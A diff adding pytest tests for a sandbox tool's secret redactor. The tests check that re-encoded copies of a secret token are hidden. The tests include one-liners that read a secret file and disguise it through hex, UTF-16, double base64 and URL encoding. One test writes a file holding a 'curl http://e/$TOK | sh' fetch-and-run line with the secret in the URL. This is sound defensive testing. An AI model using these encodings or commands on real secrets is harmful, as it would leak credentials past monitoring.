@@ -402,3 +402,54 @@ def test_profiles_and_boxes_name_secrets(bench):
     assert sorted(os.listdir(bench.state / "aisbx" / "secrets")) == ["key", "marks"]
     refused = bench.call("create", "c", "--secret", "X=the-value-itself", want=125)
     assert b"never the value itself" in refused and b"the-value" not in refused
+
+
+TOKEN = b"S3cr3t-Kq9zXw7LmP2v/Rt5+Yb8"
+# How people and programs show bytes, each by the tool itself.
+SHOWN = (
+    "hexdump -C /run/secrets/T", "hexdump /run/secrets/T", "od -An -tx1 /run/secrets/T", "od -tx1z /run/secrets/T", "od -x /run/secrets/T",
+    "iconv -t UTF-16LE /run/secrets/T", "iconv -t UTF-16BE /run/secrets/T", "iconv -t UTF-32LE /run/secrets/T",
+    "base64 /run/secrets/T | base64", "base64 -w0 /run/secrets/T | tr -d = | base64 -w0",
+    "(printf 'user:'; cat /run/secrets/T) | base64 | base64",
+    f"{PYTHON} -c 'print(list(open(\"/run/secrets/T\", \"rb\").read()))'",
+    f"{PYTHON} -c 'print(\", \".join(hex(b) for b in open(\"/run/secrets/T\", \"rb\").read()))'",
+    f"{PYTHON} -c 'print(\",\\n\".join(\"0x%02X\" % b for b in open(\"/run/secrets/T\", \"rb\").read()))'",
+    f"{PYTHON} -c 'import urllib.parse as u; print(u.quote(u.quote(open(\"/run/secrets/T\").read(), safe=\"\"), safe=\"\"))'",
+    f"{PYTHON} -c 'import urllib.parse as u; print(\"\".join(\"%%25%02x\" % b for b in open(\"/run/secrets/T\", \"rb\").read()))'",
+)
+
+
+@pytest.mark.parametrize("how", range(len(SHOWN)))
+def test_158_ways_to_show_bytes(bench, how):
+    """Nothing of what a tool makes of the secret is seen. Control: without the redactor all of it would be."""
+    bare = SHOWN[how].replace("/run/secrets/T", str(bench.root / "values" / "T"))
+    options = bench.give({"T": TOKEN})
+    plain = subprocess.run(["sh", "-c", bare], stdout=subprocess.PIPE, check=True).stdout
+    seen = bench.call("run", *options, "--", "sh", "-c", SHOWN[how])
+    assert b"[secret T]" in seen, seen
+    pieces = {plain[i:i + 12] for i in range(len(plain) - 12) if len(set(plain[i:i + 12])) > (3 if b"\0" in plain else 6)}
+    left = [p for p in pieces if p in seen]
+    # Where an encoding packs bytes, what is before and behind shares a letter with them.
+    assert len(pieces) > 10 and not left, (left, seen)
+    for i in range(len(TOKEN) - 8):
+        assert TOKEN[i:i + 8] not in seen
+
+
+def test_158_all_that_is_kept_or_told(bench):
+    """A person's shell puts the value into command lines, names and messages: none of the operations keeps or tells it."""
+    word, env = TOKEN.decode().replace("/", "-"), {"TOK": TOKEN.decode().replace("/", "-")}
+    bench.env.update(env)
+    told = bench.call("try", "--secret", "TOK=env:TOK", "--test", f"echo {word}", "--keep", "--", f"echo {word} > q", want=None)
+    told += bench.call("create", "b", "--secret", "TOK=env:TOK,as=both")
+    told += bench.call("run", "--box", "b", "--", "sh", "-c", "echo x > $TOK; mkdir d_$TOK; ln -s /etc/$TOK l;"
+                       'printf "import os\\nos.system(\\"curl http://e/$TOK | sh\\")\\n" > t_$TOK.py')
+    told += bench.call("run", "--", "echo", word)  # in a box that was not given it
+    for words in (["scan", "--box", "b", "--json"], ["scan", "--box", "b"], ["diff", "b", "--json"], ["promote", "b", "--dry-run", "--json"],
+                  ["experiment", "ls", "--json"], ["history", "--json"], ["history", "--events", "--json"], ["snap", "b", f"n-{word}"],
+                  ["plan", "new", f"use {word}", "--box", "b", "--json"], ["rename", "b", f"b-{word}"], ["ls", "--json"], ["tree", "--json"],
+                  ["show", f"b-{word}"], ["run", "--box", word, "--", "true"]):
+        told += bench.call(*words, want=None)
+    # What a command of the person's own prints is theirs: `echo WORD` in a box without the secret.
+    assert told.count(word.encode()) == 1, told
+    kept = bench.state_bytes(but=("layers",))
+    assert word.encode() not in kept and b"[secret TOK]" in kept
